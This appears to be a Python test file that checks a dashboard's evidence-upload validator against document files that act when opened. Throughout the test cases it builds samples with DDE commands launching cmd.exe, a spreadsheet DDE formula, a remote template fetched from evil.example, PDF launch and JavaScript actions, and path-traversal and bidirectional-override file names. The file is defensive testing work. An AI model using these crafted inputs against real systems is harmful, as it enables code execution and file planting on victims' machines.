"""Red team: evidence files that act when opened. Each hostile file is refused with a message
naming it and nothing is stored (no file in the evidence folder, no evidence row); its clean
twin is accepted, so the check refuses what is active, not what is ordinary. File names that
try to reach other folders, hide their real extension or overflow the database are cleaned."""

import io
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlmodel import Session, select

from dashboard.rules.errors import Refused
from dashboard.rules.permissions import Actor
from dashboard.store import evidence_files
from dashboard.store.settings import Settings
from dashboard.writes import updates
from models import Evidence, Issue, Role

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _zip(parts: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return buffer.getvalue()


def docx(body: str = "<w:p><w:r><w:t>Minutes of the equality group</w:t></w:r></w:p>",
         extra: dict[str, str | bytes] | None = None) -> bytes:  # fmt: skip
    """A Word document as Word writes its parts; `extra` adds parts ('word/x.xml': ...)."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.wordprocessingml.document.main+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/>'
            "</Relationships>"
        ),
        "word/_rels/document.xml.rels": (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId9" Type="{REL}/hyperlink" '
            'Target="https://www.local.gov.uk/equality" TargetMode="External"/></Relationships>'
        ),
        "word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>",
    }
    return _zip({**parts, **(extra or {})})


def xlsx(formula: str | None = None, extra: dict[str, str] | None = None) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["Ward", "Count"])
    sheet.append(["Abbey", 12])
    sheet["C2"] = "=SUM(B2:B2)"
    buffer = io.BytesIO()
    workbook.save(buffer)
    data = buffer.getvalue()
    if formula is None and not extra:
        return data
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            body = source.read(item.filename)
            if formula and item.filename == "xl/worksheets/sheet1.xml":
                body = body.replace(b"<f>SUM(B2:B2)</f>", f"<f>{formula}</f>".encode())
            target.writestr(item, body)
        for name, part in (extra or {}).items():
            target.writestr(name, part)
    return out.getvalue()


def _field(code: str) -> str:
    """A Word field whose code is split over runs, as Word itself writes it."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in code.split("|"))
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Update</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')  # fmt: skip


def pdf(*objects: bytes) -> bytes:
    body = b"".join(f"{n} 0 obj\n".encode() + o + b"\nendobj\n" for n, o in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"


def _object_stream(dictionary: bytes) -> bytes:
    packed = zlib.compress(b"3 0 " + dictionary)
    return (f"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(packed)} >>\n"
            "stream\n").encode() + packed + b"\nendstream"  # fmt: skip


DDE_CODE = ' DD|E&#65;UTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '
# (case, file name, hostile content, its clean twin, words the refusal must hold)
CASES: list[tuple[str, str, Callable[[], bytes], Callable[[], bytes], str]] = [
    ("embedded OLE object", "minutes.docx",
     lambda: docx(extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0payload"}), docx,
     "contains embedded objects"),
    ("ActiveX control", "minutes.docx",
     lambda: docx(extra={"word/activeX/activeX1.xml": "<ax:ocx/>"}), docx,
     "contains ActiveX controls"),
    ("macros in a .docx", "minutes.docx",
     lambda: docx(extra={"word/vbaProject.bin": b"\x00vba"}), docx, "contains macros"),
    ("link to another workbook", "figures.xlsx",
     lambda: xlsx(extra={"xl/externalLinks/externalLink1.xml": "<externalLink/>"}), xlsx,
     "contains links to other workbooks"),
    ("remote template", "minutes.docx",
     lambda: docx(extra={"word/_rels/settings.xml.rels": (
         f'<Relationships xmlns="x"><Relationship Id="rId1" Type="{REL}/attachedTemplate" '
         'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')}),
     docx, "links to content outside the file"),
    ("DDEAUTO field split over runs", "minutes.docx", lambda: docx(_field(DDE_CODE)),
     lambda: docx(_field(" PA|GE ")), "contains DDE field codes"),
    ("DDE field in one piece", "minutes.docx",
     lambda: docx('<w:fldSimple w:instr="DDE calc.exe x"><w:r><w:t>1</w:t></w:r></w:fldSimple>'),
     lambda: docx('<w:fldSimple w:instr="NUMPAGES"><w:r><w:t>1</w:t></w:r></w:fldSimple>'),
     "contains DDE field codes"),
    ("DDE formula in a sheet", "figures.xlsx", lambda: xlsx("cmd|' /C calc'!A0"), xlsx,
     "contains DDE field codes or formulas"),
    ("old Word file renamed .docx", "minutes.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" +
     b"\x00" * 600, docx, "old-style or password-protected Office file"),
    ("old Word file as .pdf", "report.pdf", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" +
     b"\x00" * 600, lambda: pdf(CATALOG, PAGES), "old-style or password-protected Office file"),
    ("PDF JavaScript", "report.pdf",
     lambda: pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", PAGES,
                 b"<< /S /JavaScript /JS (app.alert(1)) >>"),
     lambda: pdf(CATALOG, PAGES), "contains JavaScript"),
    ("PDF JavaScript written with #xx escapes", "report.pdf",
     lambda: pdf(CATALOG, PAGES, b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
     lambda: pdf(CATALOG, PAGES), "contains JavaScript"),
    ("PDF launch action", "report.pdf",
     lambda: pdf(CATALOG, PAGES, b"<< /S /Launch /F (cmd.exe) >>"),
     lambda: pdf(CATALOG, PAGES), "actions that start other programs"),
    ("PDF embedded file packed in an object stream", "report.pdf",
     lambda: pdf(CATALOG, PAGES, _object_stream(b"<< /Type /EmbeddedFile /Length 3 >>")),
     lambda: pdf(CATALOG, PAGES, _object_stream(b"<< /Type /Font /Subtype /Type1 >>")),
     "contains embedded files"),
]  # fmt: skip


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return Settings(
        database_url="sqlite://",
        evidence_dir=tmp_path / "evidence",
        max_evidence_mb=20,
        rag_amber_days=30,
    )


def _stored(settings: Settings) -> list[Path]:
    return [p for p in settings.evidence_dir.rglob("*") if p.is_file()]


@pytest.mark.parametrize(("case", "name", "hostile", "clean", "words"), CASES,
                         ids=[c[0] for c in CASES])  # fmt: skip
def test_an_evidence_file_that_acts_when_opened_is_refused_and_not_stored(
    settings: Settings, case: str, name: str, hostile: Callable[[], bytes],
    clean: Callable[[], bytes], words: str,
) -> None:  # fmt: skip
    with pytest.raises(Refused) as refused:
        evidence_files.store(data=hostile(), file_name=name, issue_id=1, settings=settings)
    message = str(refused.value)
    assert message.startswith(name) and words in message, message
    assert _stored(settings) == []
    kept = evidence_files.store(data=clean(), file_name=name, issue_id=1, settings=settings)
    assert kept.file_name == name and len(_stored(settings)) == 1


def test_a_refused_evidence_file_leaves_no_row_and_no_file(
    seeded: Session, settings: Settings
) -> None:
    issue = seeded.exec(select(Issue).where(Issue.ref == "1.1")).first()
    assert issue is not None and issue.id is not None
    before = len(seeded.exec(select(Evidence)).all())
    with pytest.raises(Refused) as refused:
        updates.add_evidence(
            session=seeded, actor=Actor(name="Lead", role=Role.ADMIN), issue_id=issue.id,
            upload=updates.EvidenceUpload(file_name="minutes.docx", data=docx(_field(DDE_CODE))),
            settings=settings,
        )  # fmt: skip
    assert "minutes.docx contains DDE field codes" in str(refused.value)
    seeded.expire_all()
    assert len(seeded.exec(select(Evidence)).all()) == before
    assert _stored(settings) == []


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/cron.d/report.pdf", "report.pdf"),
        ("C:\\Users\\me\\..\\report.pdf", "report.pdf"),
        ("rep\x00ort\x07\x1b.pdf", "report.pdf"),
        ("invoice\u202efdp.txt", "invoicefdp.txt"),
        ("\u2066minutes\u2069\u200f.docx", "minutes.docx"),
    ],
    ids=["path parts", "windows path", "NUL and controls", "right-to-left override", "isolates"],
)
def test_an_evidence_file_name_is_cleaned(settings: Settings, given: str, kept: str) -> None:
    data = docx() if kept.endswith(".docx") else pdf(CATALOG, PAGES)
    data = b"Ward,count\n" if kept.endswith(".txt") else data
    stored = evidence_files.store(data=data, file_name=given, issue_id=1, settings=settings)
    assert stored.file_name == kept
    assert [p.parent for p in _stored(settings)] == [settings.evidence_dir / "1"]


def test_a_very_long_evidence_file_name_is_shortened_keeping_its_start_and_extension(
    seeded: Session, settings: Settings
) -> None:
    given = "Equality impact assessment of the " + "very " * 200 + "long policy.pdf"
    issue = seeded.exec(select(Issue).where(Issue.ref == "1.1")).first()
    assert issue is not None and issue.id is not None
    added = updates.add_evidence(
        session=seeded, actor=Actor(name="Lead", role=Role.ADMIN), issue_id=issue.id,
        upload=updates.EvidenceUpload(file_name=given, data=pdf(CATALOG, PAGES)),
        settings=settings,
    )  # fmt: skip
    name = added[0].file_name or ""
    most = min(Evidence.__table__.c.file_name.type.length, Evidence.__table__.c.title.type.length)
    assert name.startswith("Equality impact assessment of the very")
    assert name.endswith(".pdf") and len(name) <= most
    assert len(added[0].title) <= most


@pytest.mark.parametrize(
    ("name", "build"),
    [
        ("minutes.docx", lambda: docx("<w:fldChar w:x='" * 300_000)),
        ("report.pdf", lambda: pdf(b"<< /Type /ObjStm >> stream\n" * 300_000)),
    ],
    ids=["endless field openings", "endless object streams"],
)
def test_an_evidence_file_made_to_slow_the_check_is_checked_quickly(
    settings: Settings, name: str, build: Callable[[], bytes]
) -> None:
    data = build()
    started = time.monotonic()
    try:
        evidence_files.check(data, name, max_mb=20)
    except Refused as refused:
        assert str(refused).startswith(name)
    assert time.monotonic() - started < 10
